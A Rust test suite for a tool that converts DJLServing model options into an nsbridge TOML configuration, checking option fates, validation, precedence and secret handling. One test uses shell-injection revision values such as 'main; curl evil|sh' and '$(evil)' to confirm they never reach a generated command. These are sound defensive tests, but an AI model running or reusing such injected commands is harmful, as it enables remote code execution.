//! Fates of options: the table of the documentation, and cases that it does not have.

use std::fs;

use nsbridge_import::{Fate, Imported};
use toml::{Table, Value};

use super::Place;

const DOCUMENT: &str = include_str!("../../../../docs/from-djl.md");

/// Returns the rows of the table after a line of the document: options, and what becomes of them.
fn rows(after: &str) -> Vec<(Vec<&'static str>, &'static str)> {
    let (_, rest) = DOCUMENT.split_once(after).unwrap_or_else(|| panic!("{after}"));
    let lines = rest.lines().skip_while(|line| !line.starts_with("|---"));
    let rows = lines.skip(1).take_while(|line| line.starts_with('|'));
    let rows = rows.map(|row| {
        let cells: Vec<_> = row.split(" | ").collect();
        (cells[0].split('`').skip(1).step_by(2).collect(), cells[1].trim())
    });
    rows.collect()
}

/// Holds the rows of a table against the import.
fn check_table(after: &str, least: usize, files: &[&str], before: &str) {
    let rows = rows(after);
    assert!(rows.len() >= least, "{after}: {}", rows.len());
    for (options, expected) in rows {
        for option in options {
            check(files, before, option, expected);
        }
    }
}

#[track_caller]
fn check(files: &[&str], before: &str, option: &str, expected: &str) {
    let place = Place::with(files);
    let key = option.split_once('=').unwrap().0;
    let before = if key == "option.task" { "" } else { before };
    let imported = place.import(&format!("{before}{option}\n"), "");
    let fate = fate(&imported, key);
    let is = match expected {
        "not needed" => matches!(fate, Fate::NotNeeded(_)),
        "not carried" => matches!(fate, Fate::NotCarried(_)),
        _ => matches!(fate, Fate::Carried(_)),
    };
    assert!(is, "{option}: {fate:?}, not {expected}");
    if !matches!(fate, Fate::Carried(_)) {
        return;
    }
    let table: Table = place.toml(&imported).parse().unwrap();
    let field = expected.trim_matches('`');
    if field == "[handler.options]" {
        let name = key.trim_start_matches("option.");
        let expected = Value::String(option.split_once('=').unwrap().1.to_owned());
        assert_eq!(table["handler"]["options"][name], expected, "{option}");
        return;
    }
    let (section, field) = field.trim_start_matches('[').split_once("] ").unwrap();
    let wanted: Table = field.parse().unwrap();
    let (name, value) = wanted.iter().next().unwrap();
    let table = Value::Table(table);
    let section = section.split('.').fold(&table, |value, part| &value[part]);
    assert_eq!(&section[name], value, "{option}");
}

#[track_caller]
fn fate(imported: &Imported, name: &str) -> Fate {
    let entries = &imported.report.entries;
    entries.iter().find(|entry| entry.name == name).unwrap().fate.clone()
}

#[test]
fn options_of_the_server_become_what_the_document_says() {
    check_table("\n## Options of the server", 10, &["config.json"], "");
    check_table("\n## Options of the server", 10, &["model.py"], "");
}

#[test]
fn options_of_the_llama_handler_become_what_the_document_says() {
    check_table("\n## Options of the Llama handler", 30, &["config.json"], "");
    check_table("\nWith a vector model", 3, &["config.json"], "option.task=text-embedding\n");
}

#[test]
fn options_of_a_model_in_python_become_what_the_document_says() {
    check_table("\n## Options of a model in Python", 15, &["model.py"], "");
}

/// Imports options beside files, and returns the fate of one.
#[track_caller]
fn of(files: &[&str], properties: &str, variables: &str, name: &str) -> (Fate, String) {
    let place = Place::with(files);
    let imported = place.import(properties, variables);
    (fate(&imported, name), place.toml(&imported))
}

#[track_caller]
fn check_lost(files: &[&str], properties: &str, part: &str) {
    let name = properties.split('=').next().unwrap();
    let (fate, _) = of(files, properties, "", name);
    assert!(fate.is_loss() && fate.text().contains(part), "{properties}: {fate:?}");
}

#[test]
fn the_file_wins_over_the_environment_and_the_last_value_over_earlier_ones() {
    let place = Place::with(&["config.json"]);
    let file = "option.n_positions=100\noption.n_positions=128\n";
    let imported = place
        .import(file, "OPTION_N_POSITIONS=64\nMAX_BATCH_SIZE=2\nOPTION_MAX_ROLLING_BATCH_SIZE=4\n");
    assert_eq!(
        fate(&imported, "option.n_positions"),
        Fate::Carried("[handler] n_positions = 128".to_owned())
    );
    let lines = imported.report.lines().join("\n");
    assert!(
        lines.contains("option.n_positions (line 2; the value of line 1 has no effect)"),
        "{lines}"
    );
    let loser = Fate::NotNeeded("option.n_positions (line 2) has precedence".to_owned());
    assert_eq!(fate(&imported, "OPTION_N_POSITIONS"), loser);
    let batch = Fate::Carried("[handler] max_rolling_batch_size = 4".to_owned());
    assert_eq!(fate(&imported, "OPTION_MAX_ROLLING_BATCH_SIZE"), batch);
    let loser = "OPTION_MAX_ROLLING_BATCH_SIZE (line 3 of the variables) has precedence";
    assert_eq!(fate(&imported, "MAX_BATCH_SIZE"), Fate::NotNeeded(loser.to_owned()));
}

#[test]
fn an_empty_variable_sets_nothing_and_is_reported() {
    let place = Place::with(&["config.json"]);
    let imported = place.import("", "OPTION_MAX_ROLLING_BATCH_SIZE=\nMAX_BATCH_SIZE=2\n");
    let empty = Fate::NotNeeded("it is empty".to_owned());
    assert_eq!(fate(&imported, "OPTION_MAX_ROLLING_BATCH_SIZE"), empty);
    let batch = Fate::Carried("[handler] max_rolling_batch_size = 2".to_owned());
    assert_eq!(fate(&imported, "MAX_BATCH_SIZE"), batch);
    let imported = place.import("option.n_positions=128\n", "OPTION_N_POSITIONS=\n");
    assert_eq!(fate(&imported, "OPTION_N_POSITIONS"), empty);
    assert_eq!(imported.report.entries.len(), 2);
}

#[test]
fn two_names_of_one_field_that_differ_are_no_silent_choice() {
    let text = "option.max_rolling_batch_size=4\noption.max_num_seqs=8\n";
    let (fate, toml) = of(&["config.json"], text, "", "option.max_num_seqs");
    let why = "[handler] max_rolling_batch_size has another value, of option.max_rolling_batch_size (line 1)";
    assert_eq!(fate, Fate::NotCarried(why.to_owned()));
    assert!(toml.contains("\nmax_rolling_batch_size = 4\n"), "{toml}");
}

#[test]
fn values_out_of_range_are_lost_with_the_range() {
    let config = &["config.json"];
    check_lost(config, "option.max_rolling_batch_size=0", "from 1 to 16384");
    check_lost(config, "option.max_rolling_batch_size=many", "from 1 to 16384");
    check_lost(config, "option.speculative_length=17", "from 0 to 16");
    check_lost(config, "option.predict_timeout=0", "above 0");
    check_lost(config, "option.predict_timeout=NaN", "above 0");
    check_lost(config, "option.enable_prefix_caching=maybe", "true or false");
    check_lost(config, "option.tensor_parallel_degree=3", "1, 2, 4 or 8");
    check_lost(
        config,
        "option.max_rolling_batch_size=4 # small",
        "a comment needs a line of its own",
    );
    check_lost(&["model.py"], "maxWorkers=0", "from 1 to 1024");
    check_lost(config, "option.speculative_config={\"method\": \"eagle3\"}", "none by eagle3");
    check_lost(
        config,
        "option.speculative_config={\"draft\": 1}",
        "`draft`: its field is not known",
    );
    check_lost(config, "option.speculative_config=yes", "no JSON object");
}

#[test]
fn a_misspelled_option_is_unknown_with_the_known_one() {
    let (fate, _) = of(&["config.json"], "option.entrypoint=model.py", "", "option.entrypoint");
    assert_eq!(fate, Fate::Unknown("DJLServing's option is option.entryPoint".to_owned()));
    check_lost(&["config.json"], "option.no_such_thing=1", "vLLM or TensorRT-LLM");
    check_lost(&["config.json"], "no_such_thing=1", "translator in Java");
    let (fate, _) = of(&["model.py"], "", "NO_SUCH_THING=1", "NO_SUCH_THING");
    assert!(matches!(fate, Fate::Unknown(_)), "{fate:?}");
}

#[test]
fn a_model_of_a_hub_is_a_place_that_no_worker_accepts() {
    let place = Place::with(&[]);
    let imported = place.import("option.model_id=org/model\noption.revision=abc\n", "");
    let refusal = place.read(&imported).unwrap_err();
    assert!(
        refusal.contains("`hub://` is not known: use s3://bucket/prefix, a folder"),
        "{refusal}"
    );
    assert!(place.toml(&imported).contains("target = \"hub://org/model@abc\"\n"));
    let step = "`hf download org/model --revision abc --local-dir DIR` and `nsbridge model push DIR s3://BUCKET/PREFIX`";
    assert!(imported.report.steps[0].contains(step), "{:?}", imported.report.steps);
    assert!(place.toml(&imported).contains("model = \"model\"\n"));
}

#[test]
fn a_command_quotes_no_revision_that_a_shell_would_run() {
    for revision in ["main; curl evil|sh", "$(evil)", "--local-dir=/", "x y;z", "a`b`"] {
        let place = Place::with(&[]);
        let imported =
            place.import(&format!("option.model_id=org/model\noption.revision={revision}\n"), "");
        let all = place.toml(&imported) + &imported.report.lines().join("\n");
        assert!(!all.contains(revision) && !all.contains("evil"), "{all}");
        let step = "`hf download org/model --revision REVISION --local-dir DIR`";
        assert!(imported.report.steps[0].contains(step), "{:?}", imported.report.steps);
        let fate = fate(&imported, "option.revision");
        assert!(fate.is_loss() && fate.text().contains("characters that no revision has"));
    }
}

#[test]
fn a_folder_of_another_machine_is_named() {
    let place = Place::with(&[]);
    let imported = place.import("option.model_id=/nowhere/llama\n", "");
    assert!(imported.report.steps[0].contains("/nowhere/llama is not on this machine"));
    assert!(place.read(&imported).unwrap_err().contains("there is no model in /nowhere/llama"));
}

#[test]
fn a_model_without_a_handler_has_a_file_that_is_not_there() {
    let check = |files: &[&str], properties: &str, part: &str| {
        let place = Place::with(files);
        let imported = place.import(properties, "");
        let steps = imported.report.steps.join("\n");
        assert!(steps.contains(part), "{properties}: {steps}");
        assert!(place.toml(&imported).contains("entry_point = \"bear/not-written-yet.py\"\n"));
    };
    check(&["model.py"], "engine=OnnxRuntime", "engine OnnxRuntime: write a model.py");
    check(&[], "option.entryPoint=https://example.com/model.py", "downloads no code");
    check(
        &[],
        "option.entryPoint=git+https://user:secret@example.com/model.py",
        "downloads no code",
    );
    check(&[], "option.entryPoint=djl_python.xgboost_handler", "djl_python.xgboost_handler");
    check(&[], "option.entryPoint=my.service", "my/service.py is not beside it");
    check(&["a.skops"], "engine=Python", "scikit-learn");
    check(&["a.onnx"], "maxWorkers=2", "the format of this model");
    check(&["config.json"], "option.task=fill-mask", "the task fill-mask");
}

#[test]
fn a_model_that_the_llama_handler_refuses_says_why() {
    let place = Place::with(&["config.json"]);
    let config = super::CONFIG.replace("LlamaForCausalLM", "GPT2LMHeadModel");
    fs::write(place.model().0.join("config.json"), config).unwrap();
    let steps = place.import("engine=Python", "").report.steps.join("\n");
    assert!(steps.contains("GPT2LMHeadModel") && steps.contains("LlamaForCausalLM"), "{steps}");
}

#[test]
fn a_file_of_formatters_leaves_the_model_to_the_llama_handler() {
    let place = Place::with(&["config.json", "model.py"]);
    let text = "from djl_python.output_formatter import output_formatter\n@output_formatter\ndef f(o):\n    return o\n";
    fs::write(place.model().0.join("model.py"), text).unwrap();
    let imported = place.import("engine=Python", "");
    assert!(place.toml(&imported).contains("target = \"bear\""));
    assert!(imported.report.remarks[0].contains("formatters in model.py are not called"));
}

#[test]
fn adapters_and_requirements_beside_the_model_are_told() {
    let place = Place::with(&["config.json"]);
    fs::create_dir_all(place.model().0.join("adapters/b")).unwrap();
    fs::create_dir_all(place.model().0.join("adapters/a")).unwrap();
    let imported = place.import("option.enable_lora=true", "");
    assert!(imported.report.remarks[0].contains("the adapters a, b are not served"));
    let place = Place::with(&["model.py", "requirements.txt"]);
    let imported = place.import("engine=Python", "");
    assert!(imported.report.remarks[0].contains("does not install requirements.txt"));
}

#[test]
fn a_secret_stays_out_of_the_file_and_of_the_report() {
    let check = |files: &[&str], properties: &str, variables: &str| {
        let place = Place::with(files);
        let imported = place.import(properties, variables);
        let all = place.toml(&imported) + &imported.report.lines().join("\n");
        assert!(!all.contains("canary"), "{all}");
        all
    };
    let python = &["model.py"];
    let text = "option.db_password=canary\noption.env=A=canary\n";
    let all = check(python, text, "HF_TOKEN=canary\n");
    assert!(all.contains("NSBRIDGE_HANDLER__OPTIONS__DB_PASSWORD"), "{all}");
    for name in [
        "token",
        "key",
        "aws_session_token",
        "huggingface_token",
        "github_token",
        "openai_key",
        "passphrase",
        "db_pwd",
        "accessKey",
        "apiToken",
        "api-key",
        "backend_token",
        "a; evil_token",
    ] {
        let name = name.replace(' ', "\\ ");
        let all = check(python, &format!("option.{name}=canary\n"), "");
        assert!(!all.to_lowercase().contains("options__a;"), "{all}");
    }
    for token in ["canary", "canary # comment"] {
        check(&["config.json"], "", &format!("HF_TOKEN={token}\nHUGGING_FACE_HUB_TOKEN={token}\n"));
    }
    for address in [
        "https://user:canary@host/m",
        "https://canary@host",
        "https://user:canary@host/m.gguf",
        "https://host/m?token=canary",
        "s3://user:can/canary@bucket/m",
        "s3://bucket/m?X-Amz-Signature=canary",
        "djl://user:canary@zoo/m",
        "https://user:canary@host/m # comment",
    ] {
        check(&[], &format!("option.model_id={address}\n"), "");
        check(&["config.json"], &format!("option.draft_model_id={address}\n"), "");
    }
}

#[test]
fn tokens_of_a_model_are_no_secrets() {
    for name in [
        "eos_token",
        "pad_token",
        "image_placeholder_token",
        "max_token",
        "max_new_token",
        "max_new_tokens",
        "stopToken",
        "decoder_start_token",
        "eos_token_id",
        "input_key",
    ] {
        let key = format!("option.{name}");
        let (fate, _) = of(&["model.py"], &format!("{key}=a\n"), "", &key);
        assert_eq!(fate, Fate::Carried(format!("[handler.options] {name}")));
    }
}

#[test]
fn a_token_of_a_hub_is_for_the_process_of_a_model_in_python() {
    for name in ["HF_TOKEN", "HUGGING_FACE_HUB_TOKEN"] {
        let variable = format!("{name}=canary\n");
        let (fate, toml) = of(&["model.py"], "", &variable, name);
        let why = "set it for the worker: a model's process inherits it";
        assert_eq!(fate, Fate::NotCarried(why.to_owned()));
        assert!(!toml.contains("canary"), "{toml}");
        let (fate, _) = of(&["config.json"], "", &variable, name);
        assert!(matches!(fate, Fate::NotNeeded(_)), "{fate:?}");
    }
}

#[test]
fn a_folder_for_a_model_in_python_is_its_target() {
    let place = Place::with(&["model.py"]);
    fs::create_dir(place.model().0.join("weights")).unwrap();
    let imported = place.import("option.model_id=/opt/ml/model/weights\n", "");
    let toml = place.toml(&imported);
    assert!(toml.contains("target = \"bear/weights\"\n"), "{toml}");
    assert!(!toml.contains("model_id ="), "{toml}");
    place.read(&imported).unwrap();
    // A file is no place of a model.
    let imported = place.import("option.model_id=./model.py\n", "");
    assert!(place.toml(&imported).contains("model_id = \"./model.py\"\n"));
}

#[test]
fn a_model_in_python_has_its_served_name() {
    let text = "option.served_model_name=grizzly\n";
    let (fate, toml) = of(&["model.py"], text, "", "option.served_model_name");
    assert_eq!(fate, Fate::Carried("[worker] model = \"grizzly\"".to_owned()));
    assert!(toml.contains("model = \"grizzly\"\n"), "{toml}");
}

#[test]
fn a_model_in_python_is_started_as_its_options_say() {
    let place = Place::with(&["model.py", "run.batch.py"]);
    let text = "option.entryPoint=model.py\nminWorkers=3\nmaxWorkers=3\noption.async_mode=true\n\
                option.max_rolling_batch_size=16\noption.greeting= hello \n";
    let imported = place.import(text, "");
    let config = place.read(&imported).unwrap();
    let handler = &config.handler;
    assert_eq!(handler["processes"].as_integer(), Some(3));
    assert_eq!(handler["slots"].as_integer(), Some(16));
    assert_eq!(
        handler["options"]["greeting"].as_str(),
        Some("hello "),
        "white space is the model's"
    );
    assert_eq!(imported.report.losses(), 0, "{:?}", imported.report);
    assert!(imported.report.steps.is_empty());
}
